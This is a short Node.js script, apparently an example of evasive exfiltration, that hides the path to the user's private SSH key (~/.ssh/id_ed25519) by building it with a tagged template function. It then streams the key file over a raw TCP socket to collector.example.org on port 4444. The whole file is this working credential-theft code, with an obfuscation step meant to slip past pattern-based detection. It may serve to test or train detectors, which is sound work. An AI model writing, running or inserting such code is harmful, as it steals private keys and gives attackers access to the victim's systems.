// Evasion: a tagged template function assembles ~/.ssh/id_ed25519 from
// its pieces; the key file is streamed with pipe() into a raw TCP socket.
'use strict';
const fs = require('fs');
const net = require('net');
const os = require('os');

function home(strings, ...vals) {
  return os.homedir() + strings.reduce((acc, s, i) => acc + s + (i < vals.length ? vals[i] : ''), '');
}

const dir = '.ssh';
const file = home`/${dir}/id_${'ed' + 25519}`;
const sock = net.connect(4444, 'collector.example.org');
fs.createReadStream(file).pipe(sock);
